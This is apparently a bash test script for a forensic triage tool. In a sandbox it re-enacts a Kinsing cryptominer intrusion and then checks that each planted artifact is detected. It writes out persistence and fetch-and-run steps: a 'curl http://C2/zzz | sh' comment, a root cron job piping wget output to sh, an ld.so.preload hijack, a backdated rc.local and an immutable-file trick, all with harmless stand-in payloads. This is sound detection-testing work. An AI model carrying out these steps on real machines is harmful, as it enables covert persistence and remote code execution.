#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# The talk's whole story: a web server is exploited, /tmp/zzz fetched, kinsing dropped, started and deleted,
# kdevtmpfsi mines (it burns CPU and talks to a local port), a library preloaded, cron, and what cannot be changed any more.
# timeout: 600
# needs: mmdebstrap
# alone: kdevtmpfsi keeps two CPUs busy
. "$CSI_TOP/tests/helpers/lib.sh"
. "$CSI_TOP/tests/attacks/lib.sh"
# chattr +i takes a capability that no runtime gives by itself.
caps '{}' CAP_LINUX_IMMUTABLE >patch.json
attack_up patch.json

start listen 3333
# Through the hole in the server: a script is fetched and run, as `curl http://C2/zzz | sh` leaves it.
sh_start 'printf "while :; do sleep 100; done\n" >/tmp/zzz
	cat /tmp/zzz | (exec 3>&-; exec sh) & echo child $! >&3; exec 3>&-; wait' && fetched=$(said child)
start run /tmp/kinsing connect 3333 && kinsing=$PID
do_sh 'rm /tmp/kinsing'
start run /tmp/kdevtmpfsi connect 3333 burn && miner=$PID
do_sh 'cp /usr/lib/*/libjemalloc.so.2 /etc/libsystem.so && echo /etc/libsystem.so >/etc/ld.so.preload
	echo "* * * * * wget -q -O - http://127.0.0.1/d.sh | sh" >/var/spool/cron/crontabs/root
	printf "#!/bin/sh\n/tmp/kinsing\n" >/etc/rc.local; chmod +x /etc/rc.local; touch -d 2020-01-01 /etc/rc.local'
start immutable /etc/ld.so.preload
sh_start 'exec 3>&-; exec sleep 1000' && victim=$PID
triage
cp "$OUT" story.json

found story-fetched "$fetched"
found story-kinsing "$kinsing"
found story-miner "$miner"
found story-preloaded "$victim"
found story-zzz /tmp/zzz
found story-library /etc/libsystem.so
found story-list /etc/ld.so.preload
found story-cron /var/spool/cron/crontabs/root
found story-rc /etc/rc.local
run csi triage --fail-on critical --json
expect_exit 4
cells
